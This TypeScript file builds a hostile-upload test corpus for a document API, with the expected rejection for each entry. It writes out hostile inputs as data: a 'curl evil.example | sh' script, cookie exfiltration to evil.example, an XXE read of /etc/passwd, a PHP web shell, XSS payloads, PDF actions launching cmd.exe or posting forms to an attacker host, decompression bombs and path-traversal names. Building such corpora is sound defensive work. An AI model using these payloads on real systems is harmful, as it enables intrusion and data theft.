import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { PDFHexString, PDFName, PDFString, type PDFDocument } from "pdf-lib";
import { annotate, gif, jpegDeclaring, jsAction, patch, pdf, png, rawStream, tiff, zeroBomb } from "./formats";

/**
 * The hostile-upload corpus (issue 9): files an attacker or a broken scanner sends, each with
 * what `POST /api/documents` must answer. `npm run corpus:hostile -- <dir>` writes them out
 * (with manifest.json); e2e/security-uploads.spec.ts uploads every one through the real route.
 */
export type Expected =
  | { accepted: true; mimeType: string; storedName?: string; downloadName?: string }
  | { accepted: false; status: number; messageKey: string };

export interface CorpusFile {
  /** Unique, descriptive id. */
  id: string;
  group: "wrong magic" | "disguised markup/script" | "polyglot" | "truncated" | "empty" | "over-size" | "decompression bomb" | "active PDF" | "name";
  /** The X-File-Name the browser would send (raw, encodeURIComponent is applied when sending). */
  name: string;
  bytes: Buffer;
  expected: Expected;
  /** Send without Content-Length (chunked), as a streaming client would. */
  chunked?: boolean;
}

const E = (key: string) => `documents.errors.${key}`;
const refused = (status: number, key: string): Expected => ({ accepted: false, status, messageKey: E(key) });
const UNSUPPORTED = refused(415, "unsupportedType");
const DAMAGED = refused(422, "damaged");
const TOO_COMPLEX = refused(422, "tooComplex");
const ACTIVE = refused(422, "activeContent");
const accepted = (mimeType: string, names: { storedName?: string; downloadName?: string } = {}): Expected => ({ accepted: true, mimeType, ...names });

const fixtures = path.resolve(import.meta.dirname, "../../../e2e/fixtures");
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name));
const cut = (bytes: Buffer, keep: number) => bytes.subarray(0, keep < 0 ? bytes.length + keep : keep);
const text = (s: string) => Buffer.from(s, "utf8");

export async function buildCorpus(): Promise<CorpusFile[]> {
  const validPdf = fixture("invoice-gp.pdf");
  const validJpeg = fixture("receipt.jpg");
  const validPng = fixture("scan.png");
  const validGif = gif(40, 30);
  const validTiff = tiff(64, 48);
  const files: CorpusFile[] = [];
  const add = (group: CorpusFile["group"], id: string, name: string, bytes: Buffer, expected: Expected, extra: Partial<CorpusFile> = {}) => files.push({ group, id, name, bytes, expected, ...extra });

  // --- wrong magic: executables and archives under document names -------------------------
  const magic: [string, Buffer][] = [
    ["elf", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])],
    ["windows-exe", Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(120)])],
    ["zip", Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]), Buffer.alloc(64)])],
    ["gzip", Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0])],
    ["rar", Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), Buffer.alloc(32)])],
    ["7z", Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(32)])],
    ["java-class", Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), Buffer.alloc(32)])],
    ["mach-o", Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(64)])],
    ["shell-script", text("#!/bin/sh\ncurl http://evil.example/x | sh\n")],
    ["ms-office", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)])],
    ["webp", Buffer.concat([Buffer.from("RIFF\x24\x00\x00\x00WEBPVP8 ", "latin1"), Buffer.alloc(24)])],
    ["bmp", Buffer.concat([Buffer.from("BM", "latin1"), Buffer.alloc(60)])],
  ];
  for (const [kind, bytes] of magic) for (const ext of ["pdf", "png"]) add("wrong magic", `${kind} named .${ext}`, `invoice.${ext}`, bytes, UNSUPPORTED);

  // --- markup and script disguised as documents ---------------------------------------------
  const markup: [string, string][] = [
    ["html", "<!DOCTYPE html><html><body><script>fetch('/api/documents')</script></body></html>"],
    ["html-no-doctype", "<html><img src=x onerror=alert(1)></html>"],
    ["svg", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'],
    ["svg-bare", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>'],
    ["javascript", "window.location='https://evil.example/?c='+document.cookie;"],
    ["xml-xxe", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ["php", "<?php system($_GET['c']); ?>"],
    ["xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ];
  for (const [kind, body] of markup) for (const ext of ["pdf", "jpg"]) add("disguised markup/script", `${kind} named .${ext}`, `scan.${ext}`, text(body), UNSUPPORTED);
  add("disguised markup/script", "html with a UTF-8 BOM named .png", "scan.png", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(markup[0]![1])]), UNSUPPORTED);
  add("disguised markup/script", "html after 1 KiB of spaces named .gif", "scan.gif", text(" ".repeat(1024) + markup[0]![1]), UNSUPPORTED);

  // --- polyglots: valid document + something else (stored and served as the document only) --
  const html = text("<html><script>alert(document.domain)</script></html>");
  add("polyglot", "PNG with HTML after IEND", "poly.html", Buffer.concat([validPng, html]), accepted("image/png", { storedName: "poly.html", downloadName: "poly.png" }));
  add("polyglot", "JPEG with a ZIP after EOI (phones append data)", "poly.jpg", Buffer.concat([validJpeg, Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(64)]), accepted("image/jpeg"));
  add("polyglot", "PDF with HTML after %%EOF", "poly.pdf", Buffer.concat([validPdf, html]), accepted("application/pdf"));
  add("polyglot", "GIF with a JAR appended (GIFAR)", "gifar.gif", Buffer.concat([validGif, Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200)]), DAMAGED);
  add("polyglot", "HTML with a PDF header later", "poly.pdf", Buffer.concat([html, validPdf]), UNSUPPORTED);
  add("polyglot", "PDF header, then HTML, no PDF body", "poly.pdf", text(`%PDF-1.7\n${html.toString()}\n%%EOF\n`), DAMAGED);
  // Too little of a PNG to be recognised as one (file-type needs the IHDR chunk).
  add("polyglot", "PNG signature, then HTML", "poly.png", Buffer.concat([validPng.subarray(0, 8), html]), UNSUPPORTED);
  add("polyglot", "JPEG SOI, then JavaScript", "poly.jpg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text("alert(1)//")]), DAMAGED);
  add("polyglot", "PNG whose tEXt chunk holds a script", "poly.png", png(4, 4, { text: "<script>alert(1)</script>" }), accepted("image/png"));

  // --- truncations -----------------------------------------------------------------------
  for (const [label, bytes, name] of [["PDF", validPdf, "a.pdf"], ["JPEG", validJpeg, "a.jpg"], ["PNG", validPng, "a.png"], ["GIF", validGif, "a.gif"], ["TIFF", validTiff, "a.tif"]] as const) {
    for (const keep of [-1, -3, Math.floor(bytes.length / 2), 12]) {
      // 12 bytes of a PNG or TIFF are not even recognisable as one.
      const expected = keep === 12 && (label === "PNG" || label === "TIFF") ? UNSUPPORTED : DAMAGED;
      add("truncated", `${label} cut to ${keep < 0 ? `all but ${-keep} bytes` : `${keep} bytes`}`, name, cut(bytes, keep), expected);
    }
  }
  add("truncated", "PNG missing only IEND's CRC", "a.png", cut(validPng, -4), DAMAGED);
  add("truncated", "PDF without its %%EOF", "a.pdf", Buffer.from(validPdf.toString("latin1").replace(/%%EOF\s*$/, ""), "latin1"), DAMAGED);

  // --- empty and tiny ----------------------------------------------------------------------
  add("empty", "zero bytes", "empty.pdf", Buffer.alloc(0), refused(400, "empty"));
  add("empty", "zero bytes, chunked", "empty.png", Buffer.alloc(0), refused(400, "empty"), { chunked: true });
  add("empty", "one byte", "x.pdf", Buffer.from([0x25]), UNSUPPORTED);
  add("empty", "only the PDF magic", "x.pdf", text("%PDF-"), DAMAGED);
  add("empty", "only the PNG signature", "x.png", validPng.subarray(0, 8), UNSUPPORTED);
  add("empty", "4 KiB of NUL bytes", "x.pdf", Buffer.alloc(4096), UNSUPPORTED);

  // --- over-size ---------------------------------------------------------------------------
  const big = Buffer.concat([validPdf, Buffer.alloc(20 * 1024 * 1024 + 1 - validPdf.length, 0x20)]);
  add("over-size", "20 MB + 1 byte with Content-Length", "big.pdf", big, refused(413, "tooLarge"));
  add("over-size", "20 MB + 1 byte chunked (no Content-Length)", "big.pdf", big, refused(413, "tooLarge"), { chunked: true });

  // --- decompression and pixel bombs ---------------------------------------------------------
  const bomb = await zeroBomb(1024 * 1024 * 1024);
  add("decompression bomb", "PDF page content inflating to 1 GiB", "bomb.pdf", await pdf((doc) => doc.getPage(0).node.set(PDFName.of("Contents"), rawStream(doc, { Filter: "FlateDecode" }, bomb)), { objectStreams: false }), TOO_COMPLEX);
  add("decompression bomb", "PDF object stream inflating to 1 GiB", "bomb-objstm.pdf", await pdf((doc) => void rawStream(doc, { Type: "ObjStm", N: 1, First: 4, Filter: "FlateDecode" }, bomb), { objectStreams: false }), TOO_COMPLEX);
  const hexBomb = Buffer.from((await zeroBomb(150 * 1024 * 1024)).toString("hex") + ">", "latin1");
  add("decompression bomb", "PDF Flate bomb hidden under ASCIIHex", "bomb-hex.pdf", await pdf((doc) => void rawStream(doc, { Type: "ObjStm", N: 1, First: 4, Filter: doc.context.obj(["ASCIIHexDecode", "FlateDecode"]) }, hexBomb), { objectStreams: false }), TOO_COMPLEX);
  add("decompression bomb", "PDF Flate inside Flate (2 × 150 MB)", "bomb-double.pdf", await pdf((doc) => void rawStream(doc, { Filter: doc.context.obj(["FlateDecode", "FlateDecode"]) }, zlib.deflateSync(bomb, { level: 9 })), { objectStreams: false }), TOO_COMPLEX);
  add("decompression bomb", "PNG declaring 100,000 × 100,000 pixels", "bomb.png", png(100_000, 100_000, { rows: 4 }), TOO_COMPLEX);
  add("decompression bomb", "PNG declaring 20,000 × 10,000 (200 Mpx)", "bomb2.png", png(20_000, 10_000, { rows: 4 }), TOO_COMPLEX);
  add("decompression bomb", "TIFF declaring 60,000 × 60,000, deflated strip", "bomb.tif", tiff(60_000, 60_000, { compression: 8, strip: zlib.deflateSync(Buffer.alloc(1 << 20), { level: 9 }) }), TOO_COMPLEX);
  add("decompression bomb", "GIF with a 65,535 × 65,535 frame on a 1 × 1 screen", "bomb.gif", gif(1, 1, { width: 65_535, height: 65_535 }), TOO_COMPLEX);
  add("decompression bomb", "JPEG declaring 65,500 × 65,500", "bomb.jpg", jpegDeclaring(validJpeg, 65_500, 65_500), TOO_COMPLEX);
  add("decompression bomb", "PNG of 4,000 × 3,000 (12 Mpx, a phone photo) is fine", "photo.png", png(4_000, 3_000, { rows: 3_000 }), accepted("image/png"));

  // --- PDFs with scripts and actions ----------------------------------------------------------
  const catalogSet = (key: string, value: (doc: PDFDocument) => unknown) => pdf((doc) => doc.catalog.set(PDFName.of(key), value(doc) as never));
  add("active PDF", "OpenAction JavaScript", "js.pdf", await catalogSet("OpenAction", (doc) => jsAction(doc)), ACTIVE);
  add("active PDF", "OpenAction JavaScript, no object streams", "js2.pdf", await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), jsAction(doc)), { objectStreams: false }), ACTIVE);
  add("active PDF", "page additional action (/AA /O)", "aa.pdf", await pdf((doc) => doc.getPage(0).node.set(PDFName.of("AA"), doc.context.obj({ O: jsAction(doc) }))), ACTIVE);
  add("active PDF", "document JavaScript in the names tree", "names.pdf", await pdf((doc) => {
    const js = doc.context.obj({ Names: [PDFString.of("init"), doc.context.register(jsAction(doc))] });
    doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: doc.context.register(js) }));
  }), ACTIVE);
  add("active PDF", "link that launches cmd.exe", "launch.pdf", await pdf((doc) => annotate(doc, { S: "Launch", F: PDFString.of("cmd.exe") })), ACTIVE);
  add("active PDF", "link with a JavaScript action", "link-js.pdf", await pdf((doc) => annotate(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") })), ACTIVE);
  add("active PDF", "JavaScript as a hex string", "js-hex.pdf", await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: PDFHexString.fromText("app.alert(1)") }))), ACTIVE);
  add("active PDF", "JavaScript in a stream", "js-stream.pdf", await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: rawStream(doc, {}, text("app.alert(1)")) }))), ACTIVE);
  const escapedJs = await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JQQQ: PDFString.of("app.alert(1)") })), { objectStreams: false });
  add("active PDF", "/JS name written with #-escapes (/J#53)", "js-escaped.pdf", patch(escapedJs, "/JQQQ", "/J#53"), ACTIVE);
  add("active PDF", "/JavaScript name with lower-case #-escapes (/#4aava#53cript)", "js-escaped2.pdf", patch(await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScriptXXXXXX", JS: PDFString.of("app.alert(1)") })), { objectStreams: false }), "/JavaScriptXXXXXX", "/#4aava#53cript  "), ACTIVE);
  add("active PDF", "form field with a keystroke script (/AA /K)", "field.pdf", await pdf((doc) => {
    const field = doc.context.obj({ FT: "Tx", T: PDFString.of("x"), Rect: [0, 0, 10, 10], Subtype: "Widget", Type: "Annot", AA: { K: jsAction(doc) } });
    const ref = doc.context.register(field);
    doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [ref] }));
    doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([ref]));
  }), ACTIVE);
  add("active PDF", "link with a javascript: URI", "uri-js.pdf", await pdf((doc) => annotate(doc, { S: "URI", URI: PDFString.of("javascript:app.alert(1)") })), ACTIVE);
  add("active PDF", "SubmitForm action posting the form elsewhere", "submit.pdf", await pdf((doc) => annotate(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/collect") })), ACTIVE);
  add("active PDF", "ImportData action", "import.pdf", await pdf((doc) => annotate(doc, { S: "ImportData", F: PDFString.of("data.fdf") })), ACTIVE);
  add("active PDF", "XFA form (scripted XML forms)", "xfa.pdf", await pdf((doc) => doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [], XFA: rawStream(doc, {}, text("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")) }))), ACTIVE);
  add("active PDF", "JavaScript in an incremental update", "update.pdf", Buffer.concat([validPdf, text("\n99 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF\n")]), ACTIVE);
  add("active PDF", "clean: a go-to-page OpenAction and a web link", "clean.pdf", await pdf((doc) => {
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, "Fit"]));
    annotate(doc, { S: "URI", URI: PDFString.of("https://example.org") });
  }), accepted("application/pdf"));

  // --- names: path traversal, controls, odd Unicode ---------------------------------------------
  const names: [string, string, string][] = [
    ["../../../../etc/passwd.png", "passwd.png", "passwd.png"],
    ["..\\..\\windows\\win.ini.png", "win.ini.png", "win.ini.png"],
    ["/etc/shadow", "shadow", "shadow.png"],
    ["C:\\fakepath\\scan.png", "scan.png", "scan.png"],
    ["..", "", "document.png"],
    ["....", "", "document.png"],
    ["scan\u0000.exe.png", "scan.exe.png", "scan.exe.png"],
    ["invoice\u202Egnp.exe", "invoicegnp.exe", "invoicegnp.png"],
    ["scan\u200F\u200E\u061C.png", "scan.png", "scan.png"],
    ["zero\u200Bwidth\uFEFF.png", "zerowidth.png", "zerowidth.png"],
    ["line\u2028break.png", "linebreak.png", "linebreak.png"],
    ["tab\tand\nnewline\r.png", "tabandnewline.png", "tabandnewline.png"],
    ["CON.png", "CON.png", "CON.png"],
    ["scan.png.html", "scan.png.html", "scan.png.png"],
    ["e\u0301ffort.png", "\u00e9ffort.png", "\u00e9ffort.png"], // NFD → NFC
    ["👨‍👩‍👧 familie.png", "👨‍👩‍👧 familie.png", "👨‍👩‍👧 familie.png"],
    ["\"quoted\" 'name'; filename=evil.html.png", "\"quoted\" 'name'; filename=evil.html.png", "\"quoted\" 'name'; filename=evil.html.png"],
    [`${"a".repeat(300)}.png`, `${"a".repeat(196)}.png`, `${"a".repeat(196)}.png`],
    ["فاتورة.png", "فاتورة.png", "فاتورة.png"],
    ["%2e%2e%2fescape.png", "%2e%2e%2fescape.png", "%2e%2e%2fescape.png"],
  ];
  for (const [name, storedName, downloadName] of names) {
    add("name", `name ${JSON.stringify(name).slice(0, 60)}`, name, validPng, accepted("image/png", { storedName: storedName || "document.png", downloadName }));
  }
  return files;
}
